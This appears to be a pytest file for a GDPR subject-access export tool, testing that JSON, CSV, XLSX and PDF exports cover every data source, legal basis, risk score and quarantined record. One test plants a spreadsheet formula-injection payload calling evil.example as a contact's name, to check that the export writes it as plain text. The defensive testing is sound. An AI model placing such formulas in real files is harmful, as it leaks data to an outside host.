"""Access and portability exports open in their readers and cover every source, with source ids and due dates."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from purge_scenario import ERIN, RITA, TENANT

from lethe.dsr import SubjectRef, export_subject
from lethe.errors import UnknownTenantError
from lethe.settings import Settings

KEYS = {"subject", "crm_contacts", "consents", "interactions", "transcripts", "email_events", "dsr_requests",
        "retention", "purposes", "controller"}


def test_json_export_has_every_contract_key_with_source_ids(scenario: Settings, tmp_path: Path) -> None:
    out = export_subject(scenario, TENANT, SubjectRef(email=ERIN["email"]), "json", tmp_path / "erin.json")
    doc = json.loads(out.read_text())
    assert set(doc) >= KEYS
    assert doc["controller"] == "ACME Energy Ltd"
    # the person's addresses as a list another system reads as such, not one text joined with commas
    assert doc["subject"][0]["emails"] == [ERIN["email"]] and doc["subject"][0]["phones"] == [ERIN["phone"]]
    assert [c["Id"] for c in doc["crm_contacts"]] == [ERIN["id"]]
    assert sorted(i["ContactId"] for i in doc["interactions"]) == ["ctr-erin-1", "ctr-erin-2"]
    # times say their zone: a portable export is read by other systems, which must not take them for local times
    stamps = [v for i in doc["interactions"] for v in i.values() if isinstance(v, str) and re.match(r"\d{4}-\d\d-\d\dT", v)]
    assert stamps and all(v.endswith("+00:00") for v in stamps), stamps
    assert {e["sg_event_id"] for e in doc["email_events"]} == {"ev-erin-1", "ev-erin-2"}
    assert any("900103" in (t["Content"] or "") for t in doc["transcripts"])
    assert [c["Id"] for c in doc["consents"]] == ["0ZWERIN"] and doc["consents"][0]["Capture_Method__c"]
    assert [d["request_id"] for d in doc["dsr_requests"]] == ["dsr-erin"]
    assert doc["retention"]["interaction.recording"]["days"] == 90
    due = {r["record_id"]: r["due_at"] for r in doc["retention"]["campaign.event"]["records"]}
    assert due["ev-erin-1"].startswith("2027-")  # 395 days after an April 2026 event
    assert any(p.get("Name") == "Marketing" for p in doc["purposes"])
    assert all(p["legal_basis"] for p in doc["purposes"])
    # marketing rests on the person's consent (Art. 6(1)(a)); keeping the consent record is Art. 7(1)
    assert [p["legal_basis"][:17] for p in doc["purposes"] if p.get("Name")] == ["Art. 6(1)(a) GDPR"]
    assert {p["source"]: p["legal_basis"][:17] for p in doc["purposes"] if not p.get("Name")}["consents"] == \
        "Art. 7(1) GDPR: d"


def test_csv_export_is_a_zip_of_csvs_polars_reads_with_the_audio(scenario: Settings, tmp_path: Path) -> None:
    out = export_subject(scenario, TENANT, SubjectRef(contact_id=RITA["id"]), "csv", tmp_path / "rita.zip")
    with zipfile.ZipFile(out) as zf:
        names = set(zf.namelist())
        assert {"crm_contacts.csv", "interactions.csv", "email_events.csv", "transcripts.csv"} <= names
        assert {"recordings/recordings/2026/ctr-rita-1.wav", "recordings/recordings/2026/ctr-rita-2.wav"} <= names
        interactions = pl.read_csv(io.BytesIO(zf.read("interactions.csv")))
        contacts = pl.read_csv(io.BytesIO(zf.read("crm_contacts.csv")))
        subject = pl.read_csv(io.BytesIO(zf.read("subject.csv")))
        assert zf.read("recordings/recordings/2026/ctr-rita-1.wav").startswith(b"RIFF")
    assert sorted(interactions["ContactId"].to_list()) == ["ctr-rita-1", "ctr-rita-2"]
    assert contacts["Email"].to_list() == [RITA["email"]]
    assert subject["emails"].to_list() == [RITA["email"]]


def test_xlsx_export_has_one_sheet_per_source(scenario: Settings, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = export_subject(scenario, TENANT, SubjectRef(phone="07700 900103"), "xlsx", tmp_path / "erin.xlsx")
    wb = load_workbook(out, read_only=True)
    assert {"crm_contacts", "interactions", "transcripts", "email_events", "consents", "retention"} <= set(wb.sheetnames)
    rows = list(wb["email_events"].iter_rows(values_only=True))
    assert rows[0][0] == "sg_event_id" and {r[0] for r in rows[1:]} == {"ev-erin-1", "ev-erin-2"}


def test_pdf_export_is_a_readable_report_with_extractable_text(scenario: Settings, tmp_path: Path) -> None:
    from pypdf import PdfReader

    out = export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "pdf", tmp_path / "erin.pdf")
    text = "\n".join(page.extract_text() for page in PdfReader(out).pages)
    assert "ACME Energy Ltd" in text and ERIN["last"] in text and "ctr-erin-1" in text
    assert f"emails: {ERIN['email']}" in text and "['" not in text  # a list in words, not as Python writes it
    # written for the person it is sent to: sections in words, each saying what it holds, dates as dates
    for heading in ("Your customer record", "Your calls and chats with the contact centre", "Emails sent to you",
                    "Why your data is processed", "How long each record is kept, and when it falls due"):
        assert heading in text
    assert "Crm Contacts" not in text and "Dsr Requests" not in text
    assert re.search(r"contact_records ctr-erin-1: falls due on \d{2} [A-Z][a-z]+ \d{4}", text)
    assert not re.search(r"due \d{4}-\d{2}-\d{2}T", text)
    words = " ".join(text.split())
    # each category by its name (lethe.policy.CATEGORY_WORDS), and what the customer record holds besides
    assert "Call and chat records: kept 730 days" in words
    assert "Customer records (with your privacy choices and consents): kept" in words
    assert ("Your customer record: Customer relationship management for the controller. Legal basis: Art. 6(1)(b) "
            "GDPR: performance of a contract.") in words
    assert ("Marketing (Direct marketing), a purpose you were asked to consent to. Legal basis: Art. 6(1)(a) GDPR: "
            "consent") in words
    assert "legal_basis:" not in text


def test_unknown_tenant_is_an_error_not_an_empty_export(scenario: Settings, tmp_path: Path) -> None:
    with pytest.raises(UnknownTenantError, match="nope"):
        export_subject(scenario, "nope", SubjectRef(email=ERIN["email"]), "json", tmp_path / "x.json")


def test_the_export_includes_the_risk_score_and_quarantined_records_held_on_the_subject(
        scenario: Settings, tmp_path: Path) -> None:
    """Data derived about a person (their withdrawal-risk score) and records held on them that failed their checks
    (Erin's SendGrid event with an unknown type, quarantined at ingest) are personal data held: an access export
    that left them out would not be "everything held on one data subject"."""
    import duckdb
    from pypdf import PdfReader

    from lethe.keys import keyed_hash
    from lethe.risk.train import SCORES_DDL

    con = duckdb.connect(str(scenario.warehouse))
    try:  # the scores table as `lethe build` writes it, with a score for Erin
        con.execute("create schema if not exists marts")
        con.execute(SCORES_DDL)
        con.execute("insert into marts.withdrawal_risk_scores values (?, ?, ?, ?, ?)", [
            TENANT, keyed_hash(scenario.secret_key, TENANT, "contact", ERIN["id"]), "2026-06-01 00:00:00", 0.42,
            "unopened_streak=7.0 (+1.21); open_rate_trend=-0.5 (+0.8)"])
    finally:
        con.close()

    doc = json.loads(export_subject(scenario, TENANT, SubjectRef(email=ERIN["email"]), "json",
                                    tmp_path / "erin.json").read_text())
    assert [(p["profile"], p["score"], p["top_signals"]) for p in doc["profiling"]] == [
        ("withdrawal_risk", 0.42, "unopened_streak=7.0 (+1.21); open_rate_trend=-0.5 (+0.8)")]
    assert "object" in doc["profiling"][0]["description"]
    assert [(q["dataset"], "ev-erin-bad" in q["record"]) for q in doc["quarantined"]] == [("email_events", True)]
    assert doc["quarantined"][0]["reason"]

    rita = json.loads(export_subject(scenario, TENANT, SubjectRef(contact_id=RITA["id"]), "json",
                                     tmp_path / "rita.json").read_text())
    assert rita["profiling"] == [] and rita["quarantined"] == []

    pdf = export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "pdf", tmp_path / "erin.pdf")
    text = "\n".join(page.extract_text() for page in PdfReader(pdf).pages)
    assert "Scores derived about you (1)" in text and "Records that failed our checks (1)" in text
    assert "ev-erin-bad" in text
    # the score in words a person reads, not the model's feature names (GDPR Art. 15(1)(h): the logic involved)
    words = " ".join(text.split())
    assert ("Withdrawal risk on 01 June 2026: an estimated 42.0% likelihood that you withdraw your consent to "
            "marketing within 30 days. What weighed most: Emails left unopened in a row: 7; Change in open rate "
            "(last 30 days against the 60 before): -50 percentage points.") in words, words
    assert "unopened_streak" not in text
    with zipfile.ZipFile(export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "csv",
                                        tmp_path / "erin.zip")) as zf:
        assert pl.read_csv(io.BytesIO(zf.read("quarantined.csv")))["dataset"].to_list() == ["email_events"]
        assert pl.read_csv(io.BytesIO(zf.read("profiling.csv")))["score"].to_list() == [0.42]


def test_a_value_that_looks_like_a_formula_is_text_in_the_xlsx(scenario: Settings, tmp_path: Path) -> None:
    """A name (or a chat message) starting with '=' is the person's data, not a formula for the reader's
    spreadsheet to run: openpyxl would otherwise write it as a live formula (a link, a DDE call)."""
    from openpyxl import load_workbook
    from purge_scenario import ingest

    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Erin")'
    contacts = scenario.landing / TENANT / "crm" / "contacts" / "contacts.csv"
    header, *rows = contacts.read_text(encoding="utf-8-sig").splitlines()
    erin = next(r for r in rows if r.startswith(ERIN["id"] + ","))
    late = erin.replace(",Erin,", ',"' + formula.replace('"', '""') + '",').replace(
        "2026-01-01T00:00:00Z", "2026-05-01T00:00:00Z")
    (contacts.parent / "late.csv").write_text(header + "\n" + late + "\n")
    ingest(scenario)

    out = export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "xlsx", tmp_path / "erin.xlsx")
    sheet = load_workbook(out)["crm_contacts"]
    names = [c for c in sheet[1] if c.value == "FirstName"][0].column
    cell = sheet.cell(row=2, column=names)
    assert (cell.value, cell.data_type) == (formula, "s")


def test_requests_and_quarantined_rows_naming_the_persons_other_contact_are_in_their_export(
        scenario: Settings, land_contacts, tmp_path: Path) -> None:
    """Salesforce keeps an old duplicate Contact of Erin's (003ERIO, on her Individual): it is Erin. A request
    naming that contact, and a quarantined request naming it, are data held on her, whichever of her contact
    ids, addresses or phones she is looked up by; the person is keyed by her smallest Contact Id (003ERIN), and
    requests were looked up by that id alone. Hank's request stays out of it."""
    from lethe.dsr.export import build_documents
    from lethe.dsr.identity import Subject
    from lethe.warehouse import connect

    (scenario.landing / TENANT / "crm" / "dsr_requests" / "old-contact.csv").write_text(
        "request_id,received_at,type,crm_contact_id,subject_email,subject_phone,verified_at,details\n"
        "dsr-erin-old,2026-05-20T00:00:00Z,access,003ERIO,,,2026-05-21T00:00:00Z,a copy of my data\n"
        "dsr-erin-bad,2026-05-20T00:00:00Z,forget-me-not,003ERIO,,,2026-05-21T00:00:00Z,\n")  # quarantined: bad type
    land_contacts(scenario, "old-duplicate.csv", {"Id": "003ERIO", "Email": "erin.old@example.com",
                                                  "Phone": "07700 900199", "Customer_Status__c": "former"})

    for n, ref in enumerate((SubjectRef(contact_id="003ERIO"), SubjectRef(contact_id=ERIN["id"]),
                             SubjectRef(email="erin.old@example.com"), SubjectRef(phone="07700 900199"))):
        doc = json.loads(export_subject(scenario, TENANT, ref, "json", tmp_path / f"erin{n}.json").read_text())
        assert sorted(c["Id"] for c in doc["crm_contacts"]) == [ERIN["id"], "003ERIO"], ref
        assert sorted(d["request_id"] for d in doc["dsr_requests"]) == ["dsr-erin", "dsr-erin-old"], ref
        assert sorted((q["dataset"], "dsr-erin-bad" in q["record"]) for q in doc["quarantined"]) == [
            ("dsr_requests", True), ("email_events", False)], ref

    # an access request in the DSR file is exported from a Subject built as lethe.dsr.requests builds it
    con = connect(scenario)
    try:
        (doc, _), = build_documents(con, scenario, [Subject(TENANT, ERIN["id"], ERIN["ind"], (ERIN["email"],), ())])
    finally:
        con.close()
    assert sorted(d["request_id"] for d in doc["dsr_requests"]) == ["dsr-erin", "dsr-erin-old"]
    assert "dsr_requests" in {q["dataset"] for q in doc["quarantined"]}


def test_control_characters_in_a_chat_are_left_out_of_the_xlsx_only(scenario: Settings, tmp_path: Path) -> None:
    """A chat message holding a control character (a pasted vertical tab, a bell) is the person's data too: the
    xlsx export is written with only the characters a spreadsheet cannot hold left out, every other character
    (accents, symbols, emoji, tab, new line) intact; the json and csv exports keep the message exactly."""
    from openpyxl import load_workbook
    from purge_scenario import ingest

    message = "Bonjour\u000bje suis Erin\u0007 \u2014 caf\u00e9 \u2713 \U0001f600\tok\nmerci"
    kept = "Bonjourje suis Erin \u2014 caf\u00e9 \u2713 \U0001f600\tok\nmerci"
    tenant = scenario.landing / TENANT
    (tenant / "contact_records" / "2026" / "05" / "ctr-erin-3.jsonl").write_text(json.dumps({
        "ContactId": "ctr-erin-3", "Channel": "CHAT", "InitiationMethod": "INBOUND",
        "InitiationTimestamp": "2026-05-20T10:00:00Z", "DisconnectTimestamp": "2026-05-20T10:05:00Z",
        "LastUpdateTimestamp": "2026-05-20T10:06:00Z",
        "CustomerEndpoint": {"Address": ERIN["email"], "Type": "EMAIL_ADDRESS"}}) + "\n")
    (tenant / "transcripts" / "ctr-erin-3.json").write_text(json.dumps({"ContactId": "ctr-erin-3", "Transcript": [
        {"ParticipantRole": "CUSTOMER", "Content": message, "AbsoluteTime": "2026-05-20T10:01:00Z"}]}))
    ingest(scenario)

    out = export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "xlsx", tmp_path / "erin.xlsx")
    rows = list(load_workbook(out, read_only=True)["transcripts"].iter_rows(values_only=True))
    content = rows[0].index("Content")
    assert kept in [r[content] for r in rows[1:]]

    doc = json.loads(export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "json",
                                    tmp_path / "erin.json").read_text())
    assert message in [t["Content"] for t in doc["transcripts"]]
    with zipfile.ZipFile(export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "csv",
                                        tmp_path / "erin.zip")) as zf:
        assert message in pl.read_csv(io.BytesIO(zf.read("transcripts.csv")))["Content"].to_list()
    export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "pdf", tmp_path / "erin.pdf")


def test_an_address_another_contact_also_holds_does_not_bring_its_owners_records_into_the_export(
        scenario: Settings, land_contacts, tmp_path: Path) -> None:
    """Tom's CRM contact (modified before Erin's) carries Erin's email and his own phone: the address is Erin's, as
    the marts and the erasure decide (the contact modified last). Tom's export held every mail sent to Erin; her
    own export keeps them. A call from Tom's phone that the CRM tagged as Erin's (crmContactId) is hers too."""
    from purge_scenario import _ctr, days_ago, ingest

    from lethe.build import run_build

    call = _ctr("ctr-tagged", {**ERIN, "human_phone": "07700 900177"}, days_ago(3), None)
    call["Attributes"]["crmContactId"] = ERIN["id"]
    (scenario.landing / TENANT / "contact_records" / "tagged.jsonl").write_text(json.dumps(call) + "\n")
    ingest(scenario)
    land_contacts(scenario, "tom.csv", {"Id": "003TOMS", "IndividualId": "0PKTOMS", "FirstName": "Tom",
                                        "LastName": "Shared", "Phone": "07700 900177",
                                        "LastModifiedDate": "2025-06-01T00:00:00Z"})
    assert run_build(scenario).models_failed == 0
    tom = json.loads(export_subject(scenario, TENANT, SubjectRef(contact_id="003TOMS"), "json",
                                    tmp_path / "tom.json").read_text())
    assert [c["Id"] for c in tom["crm_contacts"]] == ["003TOMS"]
    assert tom["email_events"] == [] and tom["interactions"] == []
    erin = json.loads(export_subject(scenario, TENANT, SubjectRef(contact_id=ERIN["id"]), "json",
                                     tmp_path / "erin.json").read_text())
    assert {e["sg_event_id"] for e in erin["email_events"]} == {"ev-erin-1", "ev-erin-2"}
    assert "ctr-tagged" in {i["ContactId"] for i in erin["interactions"]}


def test_an_exports_chats_are_whole_and_in_the_order_they_were_said() -> None:
    """Rows of a purged and compacted warehouse come back in any order: two chats' messages were interleaved
    (message 10 of one, then message 1 of another) in the json, xlsx and pdf a person is sent."""
    from datetime import datetime

    from lethe.dsr.export import _chats_in_order

    def at(minute: int) -> datetime:
        return datetime(2026, 5, 1, 10, minute)

    rows = pl.DataFrame({"ContactId": ["later", "first", "later", "first", "first"],
                         "index": [2, 10, 1, 1, 2], "AbsoluteTime": [at(41), at(9), at(40), at(0), at(1)]})
    ordered = _chats_in_order(rows)
    assert list(zip(ordered["ContactId"], ordered["index"], strict=True)) == [
        ("first", 1), ("first", 2), ("first", 10), ("later", 1), ("later", 2)]
